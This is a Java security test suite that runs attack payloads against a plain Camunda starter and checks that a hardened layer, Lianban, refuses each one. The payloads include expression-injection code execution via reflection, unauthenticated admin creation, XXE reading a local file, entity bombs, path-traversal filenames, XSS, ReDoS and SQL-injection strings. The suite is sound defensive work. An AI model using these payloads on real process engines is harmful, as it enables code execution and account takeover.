package org.lianban.access;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.authorization.Authorization;
import org.camunda.bpm.engine.authorization.Permissions;
import org.camunda.bpm.engine.authorization.Resources;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.lianban.walk.Node;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import plain.PlainStarter;

/**
 * The attack table of the architecture, section 10: each payload first against a plain Camunda 7.24.0 starter, where it does
 * its harm, and then against Lianban. What a plain starter withstands as well says so in its name.
 */
@AccessTest
class AttackTest {

    private static Node camunda;

    @LocalServerPort
    int port;

    @Autowired
    ProcessEngine engine;

    @Autowired
    RepositoryService repository;

    @Autowired
    RuntimeService runtime;

    @Autowired
    TaskService tasks;

    @Autowired
    HistoryService history;

    @Autowired
    IdentityService identities;

    private final Path marker = Path.of("target", "attacks", UUID.randomUUID().toString()).toAbsolutePath();
    private final String key = "attack-" + marker.getFileName();

    @BeforeAll
    static void startThePlainOne() throws IOException {
        Files.createDirectories(Path.of("target", "attacks"));
        camunda = Node.run("plain-camunda", PlainStarter.class, "--spring.config.location=classpath:plain/");
    }

    @AfterAll
    static void stopThePlainOne() {
        camunda.close();
    }

    @Test
    @DisplayName("未登录：普通引擎什么都给，这里 401")
    void nobodyReadsWithoutSigningIn() {
        assertThat(plain().get("/engine-rest/task").statusCode()).isEqualTo(200);
        assertThat(Client.anonymous(port).get("/engine-rest/task").statusCode()).isEqualTo(401);
    }

    @Test
    @DisplayName("或查询中的表达式（CVE-2026-109432）：普通引擎执行，这里 400，什么也没有执行")
    void anExpressionInAnOrQueryIsNotRun() {
        var query = "{\"orQueries\":[{\"assigneeExpression\":\"" + json(payload()) + "\"}]}";
        plain().post("/engine-rest/task", query);
        assertThatTheAttackWorked();

        var answer = clerk().post("/engine-rest/task", query);
        assertRefused(answer, 400, "查询条件中只能使用");
    }

    @Test
    @DisplayName("保存的筛选和扩展筛选中的表达式：普通引擎执行，这里 400")
    void anExpressionInAFilterIsNotRun() {
        var query = "{\"assigneeExpression\":\"" + json(payload()) + "\"}";
        var created = plain().post("/engine-rest/filter/create", "{\"resourceType\":\"Task\",\"name\":\"x\",\"query\":" + query + "}");
        plain().get("/engine-rest/filter/" + Client.json(created).path("id").asText() + "/list");
        assertThatTheAttackWorked();

        var filter = clerk().json("/engine-rest/filter").get(0).path("id").asText();
        assertRefused(clerk().post("/engine-rest/filter/" + filter + "/list", query), 400, "");
        assertRefused(clerk().post("/engine-rest/filter/" + filter + "/count", "{\"orQueries\":[" + query + "]}"), 400, "查询条件中只能使用");
        assertThat(clerk().post("/engine-rest/filter/create", "{\"resourceType\":\"Task\",\"name\":\"x\",\"query\":" + query + "}").statusCode())
                .isEqualTo(403);
        assertThat(Client.program(port, "admin").post("/engine-rest/filter/create", "{\"resourceType\":\"Task\",\"name\":\"x\",\"query\":" + query + "}")
                .statusCode()).isEqualTo(403);
        // one that lies in the database from a time before us
        var old = engine.getFilterService().newTaskFilter(key).setQuery(tasks.createTaskQuery().taskAssigneeExpression(payload()));
        engine.getFilterService().saveFilter(old);
        var grant = engine.getAuthorizationService().createNewAuthorization(Authorization.AUTH_TYPE_GRANT);
        grant.setUserId("tianshui.hall");
        grant.setResource(Resources.FILTER);
        grant.setResourceId(old.getId());
        grant.addPermission(Permissions.READ);
        engine.getAuthorizationService().saveAuthorization(grant);
        try {
            assertRefused(clerk().get("/engine-rest/filter/" + old.getId() + "/list"), 400, "查询条件中只能使用");
            assertRefused(clerk().get("/engine-rest/filter/" + old.getId() + "/count"), 400, "查询条件中只能使用");
        } finally {
            engine.getAuthorizationService().deleteAuthorization(grant.getId());
            engine.getFilterService().deleteFilter(old.getId());
        }
        assertThat(marker).doesNotExist();
    }

    @Test
    @DisplayName("没有管理员时人人可建管理员（CVE-2026-77226）：普通引擎建成，这里 401")
    void nobodyMakesHimselfAdministrator() {
        var body = "{\"profile\":{\"id\":\"mallory\",\"firstName\":\"m\",\"lastName\":\"m\"},\"credentials\":{\"password\":\"Mallory-1-mallory\"}}";
        var path = "/camunda/api/admin/setup/default/user/create";
        var there = plain();
        there.get("/camunda/app/admin/default/setup/");
        assertThat(there.post(path, body, "X-XSRF-TOKEN", there.cookie("XSRF-TOKEN")).statusCode()).isEqualTo(204);
        assertThat(there.json("/engine-rest/group/camunda-admin").path("id").asText()).isEqualTo("camunda-admin");

        assertThat(Client.anonymous(port).post(path, body).statusCode()).isEqualTo(401);
        var admin = Client.browser(port, "admin");
        admin.get("/camunda/app/admin/default/");
        assertThat(admin.post(path, body, "X-XSRF-TOKEN", admin.cookie("XSRF-TOKEN")).statusCode()).isEqualTo(403);
        assertThat(identities.createUserQuery().userId("mallory").count()).isZero();
    }

    @Test
    @DisplayName("部署：普通引擎人人可以，这里窗口人员 403")
    void aClerkDeploysNothing() {
        var model = process("<bpmn:userTask id='x' camunda:candidateGroups='hall'/>");
        assertThat(plain().deploy("a.bpmn", model).statusCode()).isEqualTo(200);
        assertThat(clerk().deploy("a.bpmn", model).statusCode()).isEqualTo(403);
        assertNothingDeployed();
    }

    static Stream<Arguments> code() {
        return Stream.of(
                Arguments.of("脚本任务", "<bpmn:scriptTask id='x' scriptFormat='juel'><bpmn:script>%s</bpmn:script></bpmn:scriptTask>", "不能使用脚本"),
                Arguments.of("表达式中的反射", "<bpmn:serviceTask id='x' camunda:expression=\"%s\"/>", "表达式不能调用"),
                Arguments.of("监听器中的脚本",
                        "<bpmn:userTask id='x'><bpmn:extensionElements><camunda:taskListener event='create'><camunda:script scriptFormat='juel'>%s</camunda:script></camunda:taskListener></bpmn:extensionElements></bpmn:userTask>",
                        "不能使用脚本"),
                Arguments.of("参数中的脚本",
                        "<bpmn:userTask id='x'><bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name='a'><camunda:script scriptFormat='juel'>%s</camunda:script></camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements></bpmn:userTask>",
                        "不能使用脚本"),
                Arguments.of("旧命名空间的监听器表达式",
                        "<bpmn:userTask id='x'><bpmn:extensionElements><activiti:taskListener event='create' expression=\"%s\"/></bpmn:extensionElements></bpmn:userTask>",
                        "表达式不能调用"),
                Arguments.of("任务名称中的反射", "<bpmn:userTask id='x' name=\"%s\" camunda:candidateGroups='hall'/>", "表达式不能调用"),
                Arguments.of("命令行任务",
                        "<bpmn:serviceTask id='x' camunda:type='shell'><bpmn:extensionElements><camunda:field name='command' stringValue='touch'/><camunda:field name='arg1' stringValue='%2$s'/></bpmn:extensionElements></bpmn:serviceTask>",
                        "任务类型只能是 external"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("code")
    @DisplayName("流程图带来的代码：普通引擎执行，这里部署时一句话拒绝")
    void aDiagramBringsNoCode(String what, String element, String sentence) {
        var model = process(element.formatted(payload().replace("\"", "&quot;").replace("'", "&apos;"), marker));
        var deployed = plain().deploy("a.bpmn", model);
        assertThat(deployed.statusCode()).as(deployed.body()).isEqualTo(200);
        plain().post("/engine-rest/process-definition/key/" + key + "/start", "{}");
        assertThatTheAttackWorked();

        assertRefused(designer().deploy("a.bpmn", model), 400, sentence);
        assertNothingDeployed();
    }

    static Stream<Arguments> files() {
        return Stream.of(
                Arguments.of("网页", "a.html", "<script>alert(1)</script>", "不接受 a.html"),
                Arguments.of("脚本文件", "a.js", "alert(1)", "不接受 a.js"),
                Arguments.of("CMMN", "a.cmmn", "<definitions xmlns='http://www.omg.org/spec/CMMN/20151109/MODEL' targetNamespace='t' id='d'/>", "不接受 a.cmmn"),
                Arguments.of("带路径的文件名", "../../etc/a.bpmn", "%s", "文件名不能使用"),
                Arguments.of("绝对路径的文件名", "/etc/cron.d/a.bpmn", "%s", "文件名不能使用"),
                Arguments.of("压缩包", "a.zip", "PK", "不接受 a.zip"),
                Arguments.of("外来图片的表单", "a.form", "{\"type\":\"default\",\"id\":\"f\",\"components\":[{\"type\":\"image\",\"source\":\"https://evil.example/x.png\"}]}", "图片只能来自本系统"),
                Arguments.of("匹配不完的校验", "a.form", "{\"type\":\"default\",\"id\":\"f\",\"components\":[{\"type\":\"textfield\",\"key\":\"k\",\"validate\":{\"pattern\":\"(a+)+$\"}}]}", "校验规则 pattern"),
                Arguments.of("内嵌网页的表单", "a.form", "{\"type\":\"default\",\"id\":\"f\",\"components\":[{\"type\":\"iframe\",\"url\":\"https://evil.example\"}]}", "内嵌网页"),
                Arguments.of("带网页代码的表单", "a.form", "{\"type\":\"default\",\"id\":\"f\",\"components\":[{\"type\":\"html\",\"content\":\"<b onclick='x'>\"}]}", "网页代码"),
                Arguments.of("脚本链接的表单", "a.form", "{\"type\":\"default\",\"id\":\"f\",\"components\":[{\"type\":\"text\",\"text\":\"[x](java\\u0073cript:alert(1))\"}]}", "脚本链接"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("files")
    @DisplayName("部署其他文件：普通引擎照收，这里 400")
    void onlyHarmlessFilesAreDeployed(String what, String file, String content, String sentence) {
        var text = content.equals("%s") ? process("<bpmn:userTask id='x'/>") : content;
        assertThat(plain().deploy(file, text).statusCode()).isEqualTo(200);

        assertRefused(designer().deploy(file, text), 400, sentence);
        assertNothingDeployed();
    }

    @Test
    @DisplayName("决策表中的 JUEL：普通引擎执行，这里 400；脚本语言、函数定义、导入同样")
    void aDecisionIsFeelOnly() {
        var attack = decision("expressionLanguage=\"juel\"", payload());
        assertThat(plain().deploy("a.dmn", attack).statusCode()).isEqualTo(200);
        plain().post("/engine-rest/decision-definition/key/" + key + "/evaluate", "{\"variables\":{}}");
        assertThatTheAttackWorked();

        assertRefused(designer().deploy("a.dmn", attack), 400, "expressionLanguage 只能是 FEEL");
        assertRefused(designer().deploy("a.dmn", decision("expressionLanguage=\"groovy\"", "1")), 400, "expressionLanguage 只能是 FEEL");
        var java = "function(x) external {java: {class: \"java.lang.System\", method signature: \"exit(int)\"}}";
        assertRefused(designer().deploy("a.dmn", decision("", java)), 400, "不能定义函数");
        assertNothingDeployed();
        repository.deleteDeployment(deployed("a.dmn", decision("", "1 + 1")), true);
    }

    static Stream<Arguments> feel() {
        return Stream.of(
                Arguments.of("巨大的循环", "count(for i in 1..300000 return i)", "300000", "循环超过"),
                Arguments.of("成倍增长的文字", "{a: \"xxxxxxxx\", b: a+a, c: b+b, d: c+c, e: d+d, f: e+e, g: f+f, n: string length(g)}.n", "512", "不能由同一上下文"),
                Arguments.of("成倍增长的列表", "count((for i in 1..10 return concatenate(flatten(partial), flatten(partial), [1]))[10])", "value", "partial"),
                Arguments.of("匹配不完的文字", "matches(\"aaaaaaaaaaaaaaaaab\", \"(a|a)+$\")", "false", "匹配模式"),
                Arguments.of("定义函数", "{f: function /* . */ (n) n + 1, r: f(6)}.r", "7", "不能定义函数"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("feel")
    @DisplayName("耗尽服务器的 FEEL：普通引擎照算（这里用小数目演示），本系统部署时 400")
    void feelThatWouldNotEndIsRefused(String what, String expression, String result, String sentence) {
        assertThat(plain().deploy("a.dmn", decision("", expression)).statusCode()).isEqualTo(200);
        var evaluated = plain().post("/engine-rest/decision-definition/key/" + key + "/evaluate", "{\"variables\":{}}");
        assertThat(evaluated.statusCode()).as(evaluated.body()).isEqualTo(200);
        assertThat(evaluated.body()).contains(result);

        assertRefused(designer().deploy("a.dmn", decision("", expression)), 400, sentence);
        assertNothingDeployed();
    }

    @Test
    @DisplayName("文档类型定义、外部实体、实体炸弹：普通引擎也不展开，这里用一句话说明")
    void documentTypesAreRefusedWithASentence() throws IOException {
        var secret = Files.writeString(marker.resolveSibling("secret"), "secret-of-the-machine");
        for (var type : List.of(
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]>",
                "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY x \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
                "<!DOCTYPE a SYSTEM \"http://localhost:1/evil.dtd\">")) {
            var model = process("<bpmn:userTask id='x' name='n'><bpmn:documentation>&x;</bpmn:documentation></bpmn:userTask>")
                    .replace("encoding=\"UTF-8\"?>", "encoding=\"UTF-8\"?>" + type);
            assertThat(plain().deploy("a.bpmn", model).statusCode()).isGreaterThanOrEqualTo(400);
            var refused = designer().deploy("a.bpmn", model);
            assertRefused(refused, 400, "不能含有文档类型定义");
            assertThat(refused.body()).doesNotContain("secret-of-the-machine");
            assertRefused(designer().deploy("a.dmn", model), 400, "不能含有文档类型定义");
        }
        assertRefused(designer().deploy("a.bpmn", "<bpmn"), 400, "不是有效的 XML");
        assertNothingDeployed();
    }

    static Stream<Arguments> refusedDiagrams() {
        return Stream.of(
                Arguments.of("指定 Java 类", "<bpmn:serviceTask id='x' camunda:class='java.lang.Object'/>", "不能指定 Java 类"),
                Arguments.of("没有的步骤", "<bpmn:serviceTask id='x' camunda:delegateExpression='${nobody}'/>", "没有名为 nobody 的"),
                Arguments.of("不是步骤的对象", "<bpmn:serviceTask id='x' camunda:delegateExpression='${dataSource}'/>", "没有名为 dataSource 的"),
                Arguments.of("连接器",
                        "<bpmn:serviceTask id='x' camunda:expression='${true}'><bpmn:extensionElements><camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></bpmn:extensionElements></bpmn:serviceTask>",
                        "不能使用连接器"),
                Arguments.of("外部脚本", "<bpmn:scriptTask id='x' scriptFormat='juel' camunda:resource='classpath://x.js'/>", "不能"),
                Arguments.of("内嵌表单", "<bpmn:userTask id='x' camunda:formKey='embedded:deployment:a.html'/>", "不能使用内嵌 HTML 表单"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedDiagrams")
    @DisplayName("普通引擎照收的危险写法，这里部署时一句话拒绝")
    void aDangerousDiagramIsRefusedWhenItIsDeployed(String what, String element, String sentence) {
        var model = process(element);
        assertThat(plain().deploy("a.bpmn", model).statusCode()).isEqualTo(200);
        assertRefused(designer().deploy("a.bpmn", model), 400, sentence);
        assertNothingDeployed();
    }

    @Test
    @DisplayName("五十兆的文件：普通引擎照收，这里 400")
    void aHugeDeploymentIsRefused() throws IOException {
        var fifty = "x".repeat(50 << 20);
        assertThat(plain().deploy("a.txt", fifty).statusCode()).isEqualTo(200);
        assertThat(announced(fifty)).startsWith("HTTP/1.1 400").contains("部署内容超过 10 MB，未部署");
        assertNothingDeployed();
    }

    /** The answer to a deployment of which only the length and the beginning have been sent. */
    private String announced(String content) throws IOException {
        try (var connection = new Socket("localhost", port)) {
            var credentials = Base64.getEncoder().encodeToString(("designer:" + DemoAccounts.PASSWORD).getBytes(StandardCharsets.UTF_8));
            var head = "POST /engine-rest/deployment/create HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic %s\r\n".formatted(credentials)
                    + "Content-Type: multipart/form-data; boundary=boundary\r\nContent-Length: %d\r\n\r\n".formatted(content.length())
                    + "--boundary\r\nContent-Disposition: form-data; name=\"data\"; filename=\"a.txt\"\r\n\r\n";
            connection.setSoTimeout(30_000);
            connection.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            return new String(connection.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    @DisplayName("任意类型的对象变量：普通引擎按来者指定的类建对象，这里 400")
    void noClassOfTheCallersChoiceIsMade() {
        plain().deploy("a.bpmn", process("<bpmn:userTask id='x'/>"));
        var object = """
                {"variables":{"given":{"type":"Object","value":"{}",
                "valueInfo":{"objectTypeName":"org.springframework.beans.MutablePropertyValues","serializationDataFormat":"application/json"}}}}""";
        var started = plain().post("/engine-rest/process-definition/key/" + key + "/start", object);
        var made = plain().get("/engine-rest/process-instance/" + Client.json(started).path("id").asText() + "/variables");
        assertThat(made.body()).as("only an object of the class has it").contains("propertyValueList");

        assertThat(clerk().post("/engine-rest/process-definition/key/joint-work/start", object).statusCode()).isEqualTo(400);
        var task = taskOf(startedCase());
        assertThat(clerk().post("/engine-rest/task/" + task + "/complete", object).statusCode()).isIn(400, 403);
        assertThat(clerk().post("/engine-rest/task/" + task + "/submit-form", object).statusCode()).isIn(400, 403);
    }

    @Test
    @DisplayName("Java 序列化的对象：普通引擎也拒绝，这里 400")
    void noSerialisedJavaIsRead() {
        var object = """
                {"variables":{"given":{"type":"Object","value":"rO0ABXQAAXg=",
                "valueInfo":{"objectTypeName":"java.lang.String","serializationDataFormat":"application/x-java-serialized-object"}}}}""";
        plain().deploy("a.bpmn", process("<bpmn:userTask id='x'/>"));
        assertThat(plain().post("/engine-rest/process-definition/key/" + key + "/start", object).statusCode()).isGreaterThanOrEqualTo(400);
        assertThat(clerk().post("/engine-rest/process-definition/key/joint-work/start", object).statusCode()).isEqualTo(400);
    }

    private static final String MULTIPART = "--b\r\nContent-Disposition: form-data; name=\"data\"; filename=\"../../x\"\r\n"
            + "Content-Type: application/octet-stream\r\n\r\nx\r\n"
            + "--b\r\nContent-Disposition: form-data; name=\"valueType\"\r\n\r\nFile\r\n--b--\r\n";

    static Stream<Arguments> doors() {
        var value = "{\"value\":\"granted\",\"type\":\"String\"}";
        var one = "{\"variables\":{\"decision\":" + value + "}}";
        var several = "{\"modifications\":{\"decision\":" + value + "}}";
        var process = "{\"processVariables\":{\"decision\":" + value + "},\"messageName\":\"m-KEY\",\"processInstanceId\":\"INSTANCE\"}";
        var before = "{\"instructions\":[{\"type\":\"startBeforeActivity\",\"activityId\":\"x\",\"variables\":{\"decision\":"
                + value.replace("}", ",\"local\":false}") + "}}]}";
        return Stream.of(
                Arguments.of("PUT", "/task/TASK/variables/decision", value),
                Arguments.of("PUT", "/task/TASK/localVariables/decision", value),
                Arguments.of("PUT", "/process-instance/INSTANCE/variables/decision", value),
                Arguments.of("PUT", "/execution/INSTANCE/localVariables/decision", value),
                Arguments.of("POST", "/task/TASK/variables", several),
                Arguments.of("POST", "/task/TASK/localVariables", several),
                Arguments.of("POST", "/process-instance/INSTANCE/variables", several),
                Arguments.of("POST", "/execution/INSTANCE/localVariables", several),
                Arguments.of("POST", "/task/TASK/variables/decision/data", MULTIPART),
                Arguments.of("POST", "/task/TASK/localVariables/decision/data", MULTIPART),
                Arguments.of("POST", "/process-instance/INSTANCE/variables/decision/data", MULTIPART),
                Arguments.of("POST", "/execution/INSTANCE/localVariables/decision/data", MULTIPART),
                Arguments.of("POST", "/task/TASK/complete", one),
                Arguments.of("POST", "/task/TASK/submit-form", one),
                Arguments.of("POST", "/task/TASK/resolve", one),
                Arguments.of("POST", "/task/TASK/bpmnEscalation", one.replace("}}}", "}},\"escalationCode\":\"e\"}")),
                Arguments.of("POST", "/process-definition/key/KEY/start", one),
                Arguments.of("POST", "/process-definition/key/KEY/submit-form", one),
                Arguments.of("POST", "/process-instance/INSTANCE/modification", before),
                Arguments.of("POST", "/message", process),
                Arguments.of("POST", "/execution/EXECUTION/messageSubscriptions/m-KEY/trigger", one),
                Arguments.of("POST", "/execution/EXECUTION/signal", one),
                Arguments.of("POST", "/signal", one.replace("}}}", "}},\"name\":\"s-KEY\"}")));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("doors")
    @DisplayName("表单之外的变量：普通引擎照存，这里每个入口都拒绝")
    void variablesThatNoFormAsksForAreRefusedAtEveryDoor(String method, String door, String body) {
        var model = process("""
                <bpmn:userTask id='x' name='办理' camunda:candidateGroups='hall'/>
                <bpmn:boundaryEvent id='m' cancelActivity='false' attachedToRef='x'><bpmn:messageEventDefinition messageRef='M'/></bpmn:boundaryEvent>
                <bpmn:boundaryEvent id='n' cancelActivity='false' attachedToRef='x'><bpmn:signalEventDefinition signalRef='S'/></bpmn:boundaryEvent>
                <bpmn:boundaryEvent id='o' cancelActivity='false' attachedToRef='x'><bpmn:escalationEventDefinition escalationRef='E'/></bpmn:boundaryEvent>
                """).replace("<bpmn:process", "<bpmn:message id='M' name='m-%1$s'/><bpmn:signal id='S' name='s-%1$s'/><bpmn:escalation id='E' escalationCode='e'/><bpmn:process".formatted(key));
        assertThat(plain().deploy("a.bpmn", model).statusCode()).isEqualTo(200);
        var there = sent(plain(), method, door, body);
        assertThat(there.statusCode()).as(there.body()).isIn(200, 204);
        assertThat(plain().json("/engine-rest/history/variable-instance?variableName=decision&processDefinitionKey=" + key)).isNotEmpty();

        var deployed = deployed("a.bpmn", model);
        try {
            var answer = sent(clerk(), method, door, body);
            assertThat(answer.statusCode()).as(answer.body()).isIn(400, 403, 404);
            // the web applications have the same doors once more
            assertThat(sentByBrowser(method, door, body).statusCode()).isIn(400, 403, 404);
            assertThat(history.createHistoricVariableInstanceQuery().variableName("decision").count()).isZero();
            assertThat(tasks.createTaskQuery().processDefinitionKey(key).taskDefinitionKey("x").count()).isEqualTo(2);
        } finally {
            repository.deleteDeployment(deployed, true);
        }
    }

    /** By somebody who has begun a case and holds its task. */
    private HttpResponse<String> sent(Client who, String method, String door, String body) {
        var task = taskInHand(who);
        return who.send(method, "/engine-rest" + filled(door, task), filled(body, task), typeOf(body));
    }

    private HttpResponse<String> sentByBrowser(String method, String door, String body) {
        var task = taskInHand(clerk());
        var browser = Client.browser(port, "tianshui.hall");
        browser.get("/camunda/app/tasklist/default/");
        var path = "/camunda/api/engine/engine/default" + filled(door, task);
        return browser.send(method, path, filled(body, task), typeOf(body), "X-XSRF-TOKEN", browser.cookie("XSRF-TOKEN"));
    }

    private JsonNode taskInHand(Client who) {
        var started = who.post("/engine-rest/process-definition/key/" + key + "/start", "{}");
        assertThat(started.statusCode()).as(started.body()).isEqualTo(200);
        var task = who.json("/engine-rest/task?processInstanceId=" + Client.json(started).path("id").asText()).get(0);
        who.post("/engine-rest/task/" + task.path("id").asText() + "/claim", "{\"userId\":\"tianshui.hall\"}");
        return task;
    }

    private static String typeOf(String body) {
        return body.equals(MULTIPART) ? "multipart/form-data; boundary=b" : "application/json";
    }

    private String filled(String text, JsonNode task) {
        return text.replace("INSTANCE", task.path("processInstanceId").asText()).replace("TASK", task.path("id").asText())
                .replace("EXECUTION", task.path("executionId").asText()).replace("KEY", key);
    }

    @Test
    @DisplayName("附件：普通引擎人人可取，这里 403")
    void attachmentsAreClosed() {
        plain().deploy("a.bpmn", process("<bpmn:userTask id='x'/>"));
        plain().post("/engine-rest/process-definition/key/" + key + "/start", "{}");
        var there = plain().json("/engine-rest/task?processDefinitionKey=" + key).get(0).path("id").asText();
        assertThat(plain().get("/engine-rest/task/" + there + "/attachment").statusCode()).isEqualTo(200);
        assertThat(clerk().get("/engine-rest/task/" + taskOf(startedCase()) + "/attachment").statusCode()).isEqualTo(403);
    }

    @Test
    @DisplayName("排序和查询中的 SQL：普通引擎也拒绝或转义，这里 400，或只当文字")
    void sqlIsNotRun() {
        for (var path : List.of("/engine-rest/task?sortBy=name%3Bdrop%20table%20ACT_RU_TASK&sortOrder=asc",
                "/engine-rest/task?sortBy=id&sortOrder=asc%3B%20drop%20table%20ACT_RU_TASK")) {
            assertThat(plain().get(path).statusCode()).isEqualTo(400);
            assertThat(clerk().get(path).statusCode()).as(path).isEqualTo(400);
        }
        startedCase();
        assertThat(clerk().json("/engine-rest/task?nameLike=%25%27%20or%20%271%27%3D%271")).isEmpty();
        assertThat(clerk().get("/api/cases/x'%20or%20'1'='1").statusCode()).isEqualTo(404);
        assertThat(Client.anonymous(port).get("/api/progress/x'%20or%20'1'='1?code='%20or%20'1'='1").statusCode()).isEqualTo(404);
        assertThat(clerk().json("/engine-rest/task").size()).isPositive();
    }

    @Test
    @DisplayName("名称和意见中的脚本：普通引擎原样存取；这里在自己的页面上转义，接口只当数据，浏览器不当网页")
    void scriptInNamesIsEscaped() {
        var user = identities.newUser("escaped");
        user.setFirstName("<script>alert(1)</script>");
        user.setLastName("");
        user.setPassword("Script-in-name-1");
        identities.saveUser(user);
        identities.createMembership("escaped", "hall");
        identities.createTenantUserMembership("tianshui", "escaped");
        try {
            var browser = Client.anonymous(port);
            browser.signIn("escaped", "Script-in-name-1");
            assertThat(browser.get("/").body()).contains("&lt;script&gt;").doesNotContain("<script>alert");
        } finally {
            identities.deleteUser("escaped");
        }
        var comment = "{\"message\":\"<script>alert(1)</script>\"}";
        var task = taskOf(startedCase());
        clerk().post("/engine-rest/task/" + task + "/claim", "{\"userId\":\"tianshui.hall\"}");
        clerk().post("/engine-rest/task/" + task + "/comment/create", comment);
        var read = clerk().get("/engine-rest/task/" + task + "/comment");
        assertThat(read.headers().firstValue("Content-Type")).hasValue("application/json");
        assertThat(read.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(read.headers().firstValue("Content-Security-Policy").orElse("")).contains("default-src 'none'");
        var stored = plain().post("/engine-rest/filter/create", "{\"resourceType\":\"Task\",\"name\":\"<script>\",\"query\":{}}");
        assertThat(Client.json(stored).path("name").asText()).isEqualTo("<script>");
    }

    private Client plain() {
        return Client.anonymous(camunda.port());
    }

    private Client clerk() {
        return Client.program(port, "tianshui.hall");
    }

    private Client designer() {
        return Client.program(port, "designer");
    }

    private String startedCase() {
        return Client.json(clerk().post("/engine-rest/process-definition/key/joint-work/start", "{}")).path("id").asText();
    }

    private String taskOf(String instance) {
        return tasks.createTaskQuery().processInstanceId(instance).taskDefinitionKey("userTask_accept").singleResult().getId();
    }

    /** By way of reflection alone: makes a file. */
    private String payload() {
        return "${''.getClass().forName('org.springframework.expression.spel.standard.SpelExpressionParser').newInstance()"
                + ".parseExpression('T(java.nio.file.Files).createFile(T(java.nio.file.Path).of(\"" + marker + "\")).toString()').getValue()}";
    }

    private static String json(String text) {
        return text.replace("\"", "\\\"");
    }

    /** Harmless, though no procedure of ours; by the system, whose models the rules of designers do not concern. */
    private String deployed(String file, String content) {
        return repository.createDeployment().name(file).addString(file, content).deploy().getId();
    }

    private String process(String element) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:activiti="http://activiti.org/bpmn" id="d" targetNamespace="t">
                  <bpmn:process id="%s" isExecutable="true" camunda:candidateStarterGroups="hall" camunda:historyTimeToLive="P30D">
                    <bpmn:extensionElements><camunda:properties><camunda:property name="procedureCode" value="CSLC"/></camunda:properties></bpmn:extensionElements>
                    <bpmn:startEvent id="s"/><bpmn:sequenceFlow id="f" sourceRef="s" targetRef="x"/>
                    %s
                  </bpmn:process>
                </bpmn:definitions>""".formatted(key, element);
    }

    private String decision(String language, String expression) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn" id="d" name="d" namespace="n">
                  <decision id="%s" name="x" camunda:historyTimeToLive="P30D">
                    <variable id="v" name="v"/>
                    <literalExpression id="e" %s><text><![CDATA[%s]]></text></literalExpression>
                  </decision>
                </definitions>""".formatted(key, language, expression);
    }

    private void assertThatTheAttackWorked() {
        assertThat(marker).as("what the plain starter does").exists();
        try {
            Files.delete(marker);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void assertRefused(HttpResponse<String> answer, int status, String sentence) {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
        assertThat(answer.body()).contains(sentence);
        assertThat(marker).doesNotExist();
    }

    private void assertNothingDeployed() {
        assertThat(repository.createProcessDefinitionQuery().processDefinitionKey(key).count()).isZero();
        assertThat(repository.createDecisionDefinitionQuery().decisionDefinitionKey(key).count()).isZero();
        assertThat(repository.createDeploymentQuery().deploymentNameLike("%a.%").count()).isZero();
    }
}
